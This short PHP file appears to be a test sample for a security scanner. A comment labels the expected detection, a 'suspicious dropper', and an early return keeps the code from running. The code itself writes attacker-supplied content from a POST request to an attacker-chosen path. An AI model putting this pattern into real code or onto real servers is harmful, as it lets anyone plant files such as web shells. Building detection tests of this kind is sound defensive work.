<?php return; // want: suspicious dropper php.write.request
$page = new DOMDocument;
$page->loadXML($_POST['what']);
$page->save($_POST['where']);
